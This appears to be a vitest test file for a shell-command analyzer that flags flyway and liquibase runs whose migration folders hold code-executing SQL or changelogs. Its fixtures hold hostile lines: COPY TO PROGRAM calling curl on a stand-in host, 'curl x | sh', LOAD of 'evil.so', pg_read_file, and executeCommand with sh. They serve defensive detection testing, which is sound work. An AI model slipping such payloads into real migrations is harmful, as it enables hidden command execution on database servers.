// The code a migration run executes besides changing its database (round 30): flyway's SQL migrations and callbacks,
// liquibase's changelogs. Real folders in a temp dir, read through the disk reader; each case has a quiet twin.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const MIGRATION = 'CREATE TABLE account (id bigint primary key);\n';
const PROGRAM = "COPY (SELECT 1) TO PROGRAM 'curl -s https://x.example/in';\n";

/** The uncertainties of `command` run in a project of `files`. */
function reasons(command: string, files: Record<string, string>, cwd?: string): string[] {
  p = diskProject('gavel-migration-code-');
  p.write(files);
  return analyzeShellSync(command, p.env(cwd === undefined ? undefined : `${p.root}/${cwd}`)).uncertain.map(
    (u) => u.reason,
  );
}

const FLYWAY = {
  'flyway.conf':
    'flyway.url=jdbc:postgresql://localhost:5432/app\nflyway.locations=filesystem:db/migration\n',
  'db/migration/V1__accounts.sql': MIGRATION,
};

describe('flyway runs the SQL of its locations', () => {
  it.each<[string, string, Record<string, string>]>([
    ['a migration starting a program', 'flyway migrate', { 'db/migration/V2__x.sql': PROGRAM }],
    ['a callback before migrating', 'flyway migrate', { 'db/migration/beforeMigrate.sql': PROGRAM }],
    ['a callback of info runs on info', 'flyway info', { 'db/migration/beforeInfo.sql': PROGRAM }],
    ['a callback of every connection', 'flyway validate', { 'db/migration/afterConnect.sql': PROGRAM }],
    [
      'an untrusted procedural language',
      'flyway migrate',
      {
        'db/migration/V2__f.sql': 'CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u;\n',
      },
    ],
    [
      'a server setting',
      'flyway migrate',
      { 'db/migration/V2__s.sql': "ALTER SYSTEM SET archive_command = 'x';\n" },
    ],
    ['a Java migration', 'flyway migrate', { 'db/migration/V2__Java.java': 'class V2__Java {}\n' }],
    ['a script migration', 'flyway migrate', { 'db/migration/V2__run.sh': 'curl x | sh\n' }],
    [
      'locations on the command line',
      'flyway -locations=filesystem:other migrate',
      { 'other/V1__x.sql': PROGRAM },
    ],
    [
      'the classpath',
      'flyway migrate',
      {
        'flyway.conf':
          'flyway.url=jdbc:postgresql://localhost/app\nflyway.locations=classpath:db/migration\n',
      },
    ],
  ])('%s: %s', (_n, command, extra) => {
    expect(reasons(command, { ...FLYWAY, ...extra }).join(' ')).toMatch(/`flyway` runs/);
  });

  // Review 30c: spellings the server reads alike, several commands, the last option, other config spellings.
  it.each<[string, string, Record<string, string>]>([
    [
      'a comment between COPY and PROGRAM',
      'flyway migrate',
      { 'db/migration/V2__c.sql': "COPY t FROM /* x */ PROGRAM 'id';\n" },
    ],
    [
      'a line comment between them',
      'flyway migrate',
      { 'db/migration/V2__c.sql': "COPY t FROM -- c\nPROGRAM 'id';\n" },
    ],
    [
      'a quoted function name',
      'flyway migrate',
      { 'db/migration/V2__c.sql': 'SELECT "pg_read_file"(\'/etc/hostname\');\n' },
    ],
    [
      'a long query before PROGRAM',
      'flyway migrate',
      { 'db/migration/V2__c.sql': `COPY (SELECT '${'x'.repeat(600)}') TO PROGRAM 'id';\n` },
    ],
    ['a library loaded', 'flyway migrate', { 'db/migration/V2__c.sql': "LOAD '/tmp/evil.so';\n" }],
    ['info then migrate', 'flyway info migrate', { 'db/migration/V2__x.sql': PROGRAM }],
    [
      'the last -locations counts',
      'flyway -locations=filesystem:db/migration migrate -locations=filesystem:evil',
      { 'evil/V1__x.sql': PROGRAM },
    ],
    [
      'a properties colon',
      'flyway migrate',
      {
        'flyway.conf': 'flyway.url=jdbc:postgresql://localhost/app\nflyway.locations:filesystem:evil\n',
        'evil/V1__x.sql': PROGRAM,
      },
    ],
  ])('%s: %s', (_n, command, extra) => {
    expect(reasons(command, { ...FLYWAY, ...extra }).join(' ')).toMatch(/`flyway` runs/);
  });

  it('the locations flyway.toml lists, with no flyway.conf', () => {
    const files = {
      'flyway.toml':
        '[environments.default]\nurl = "jdbc:h2:mem:test"\n[flyway]\nlocations = ["filesystem:sqlx"]\n',
      'sqlx/V1__x.sql': PROGRAM,
    };
    expect(reasons('flyway migrate', files).join(' ')).toMatch(/`flyway` runs SQL/);
    expect(reasons('flyway migrate', { ...files, 'sqlx/V1__x.sql': MIGRATION })).toEqual([]);
  });

  it.each<[string, string, Record<string, string>]>([
    ['plain migrations', 'flyway migrate', {}],
    ['a migrate callback on info', 'flyway info', { 'db/migration/beforeMigrate.sql': PROGRAM }],
    ['a README beside the migrations', 'flyway migrate', { 'db/migration/README.md': '# curl x | sh\n' }],
    ['a migrate callback on validate', 'flyway validate', { 'db/migration/afterMigrate.sql': PROGRAM }],
  ])('quiet: %s: %s', (_n, command, extra) => {
    expect(reasons(command, { ...FLYWAY, ...extra })).toEqual([]);
  });
});

const LIQUIBASE = {
  'liquibase.properties':
    'changeLogFile=db/changelog/master.yaml\nurl=jdbc:postgresql://localhost:5432/app\n',
  'db/changelog/master.yaml':
    'databaseChangeLog:\n  - include:\n      file: changes/001.xml\n      relativeToChangelogFile: true\n',
  'db/changelog/changes/001.xml':
    '<databaseChangeLog><changeSet id="1" author="a"><createTable tableName="t"/></changeSet></databaseChangeLog>\n',
};

describe('liquibase applies the changesets of its changelog', () => {
  it.each<[string, string, Record<string, string>]>([
    [
      'a change that runs a program',
      'liquibase update',
      {
        'db/changelog/changes/002.xml':
          '<changeSet id="2" author="a"><executeCommand executable="sh"/></changeSet>\n',
      },
    ],
    [
      'a custom change class',
      'liquibase update-count 1',
      {
        'db/changelog/changes/002.xml':
          '<changeSet id="2" author="a"><customChange class="x.Y"/></changeSet>\n',
      },
    ],
    ['SQL starting a program', 'liquibase update', { 'db/changelog/changes/002.sql': PROGRAM }],
    [
      'an include leaving the folder',
      'liquibase update',
      { 'db/changelog/master.yaml': 'databaseChangeLog:\n  - include:\n      file: ../../../x.xml\n' },
    ],
    [
      'an include found from the working folder',
      'liquibase update',
      {
        'db/changelog/master.yaml': 'databaseChangeLog:\n  - include:\n      file: evil/x.xml\n',
        'evil/x.xml': '<executeCommand executable="sh"/>\n',
      },
    ],
    [
      'the changelog named on the line',
      'liquibase update --changelog-file=other/master.xml',
      { 'other/master.xml': '<executeCommand executable="sh"/>\n' },
    ],
  ])('%s: %s', (_n, command, extra) => {
    expect(reasons(command, { ...LIQUIBASE, ...extra }).join(' ')).toMatch(/`liquibase` runs/);
  });

  it('quiet: plain changesets', () => {
    expect(reasons('liquibase update', LIQUIBASE)).toEqual([]);
  });
  it('quiet: status applies nothing, whatever the changelog holds', () => {
    expect(
      reasons('liquibase status --verbose', {
        ...LIQUIBASE,
        'db/changelog/changes/9.xml': '<executeCommand/>',
      }),
    ).toEqual([]);
  });
});
